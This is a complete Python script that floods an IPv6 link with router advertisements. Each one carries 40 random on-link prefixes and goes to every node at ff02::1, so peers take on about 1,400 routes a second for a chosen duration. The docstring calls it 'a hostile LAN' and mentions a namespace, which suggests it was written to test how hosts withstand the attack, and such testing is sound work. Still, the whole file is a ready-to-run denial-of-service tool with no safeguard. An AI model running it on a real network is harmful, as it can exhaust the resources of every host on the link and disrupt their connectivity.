#!/usr/bin/env python3
"""A hostile LAN: IPv6 router advertisements from this namespace's INTERFACE to
every node on its link, each with 40 on-link prefixes of its own, so that the
peer adds ROUTES_PER_SECOND routes a second for SECONDS.
  ra_flood.py INTERFACE SECONDS [ROUTES_PER_SECOND]"""
import random
import socket
import struct
import sys
import time

interface, seconds = sys.argv[1], float(sys.argv[2])
per_second = int(sys.argv[3]) if len(sys.argv) > 3 else 1400
prefixes_per_advert = 40

sender = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)  # the kernel sums it
sender.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
sender.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
index = socket.if_nametoindex(interface)
sender.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)


def advert():
    # Type 134, code 0, checksum, hop limit, flags, router lifetime 0 (no default route), reachable, retrans.
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 0, 0, 0)
    for _ in range(prefixes_per_advert):
        prefix = bytes([0x20, 0x01, 0x0d, 0xb8]) + random.randbytes(4) + bytes(8)
        # Prefix information: length 64, on-link only, valid 60 s, preferred 30 s.
        body += struct.pack("!BBBBIII", 3, 4, 64, 0x80, 60, 30, 0) + prefix
    return body


end = time.monotonic() + seconds
interval = prefixes_per_advert / per_second
while time.monotonic() < end:
    started = time.monotonic()
    sender.sendto(advert(), ("ff02::1", 0, 0, index))
    time.sleep(max(0.0, interval - (time.monotonic() - started)))
